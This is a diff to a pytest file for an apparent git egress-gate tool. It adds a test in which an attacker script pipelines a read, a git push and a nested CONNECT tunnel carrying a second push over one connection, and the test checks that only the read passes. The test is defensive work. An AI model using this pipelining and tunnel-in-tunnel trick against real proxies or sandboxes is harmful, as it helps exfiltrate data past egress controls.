@@ -14,6 +14,7 @@ import pytest
 
 from conftest import ENVGIT
 from gatekit import hostport
+from kit.tunnel import TUNNEL
 
 pytestmark = [pytest.mark.skipif(shutil.which("socat") is None, reason="socat is not installed")]
 
@@ -235,6 +236,35 @@ def test_learn_mode_lets_out_no_push_upload_or_mutation_by_another_spelling(atta
     assert not leaked, (r.stdout, leaked)
     assert git.refs() == before, r.stdout + r.stderr
 
+
+# Inside a tunnel learn mode opened: a read and a push pipelined in one write, then a CONNECT to
+# another name and a push behind it (a tunnel in the tunnel), all on one connection.
+PIPELINED = TUNNEL + r'''
+body = open("/tmp/push", "rb").read()
+hp, other = f"{host}:{port}", sys.argv[2]
+push = "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Length: %d\r\n\r\n" % len(body)
+t.sendall(f"GET /pipelined-read HTTP/1.1\r\nHost: {hp}\r\n\r\n".encode() +
+          push.format("/r.git/git-receive-pack", hp).encode() + body +
+          f"CONNECT {other} HTTP/1.1\r\nHost: {other}\r\n\r\n".encode() +
+          push.format("/nested/r.git/git-receive-pack", other).encode() + body)
+t.settimeout(5)
+try:
+    while t.recv(65536):
+        pass
+except OSError:
+    pass
+'''
+
+
+def test_learn_mode_judges_each_pipelined_request_and_opens_no_tunnel_in_a_tunnel(attacker, gate_servers):
+    git, stub = gate_servers
+    project(attacker, git, stub)
+    (attacker.root / "pipelined.py").write_text(PIPELINED)
+    attacker.own(attacker.root / "pipelined.py")
+    st, other = hostport(stub, "stub.example.test"), hostport(stub, "gitlab.com")
+    r = attacker.envgit("learn", "--", "sh", "-c", f"printf '{PUSH}' > /tmp/push; python3 pipelined.py {st} {other}")
+    assert r.returncode == 0, r.stdout + r.stderr
+    assert [q["path"] for q in stub.requests] == ["/pipelined-read"], (r.stderr, stub.requests)
 
 def test_a_process_a_learn_step_left_behind_is_not_in_learn_mode(attacker, gate_servers):
     git, stub = gate_servers
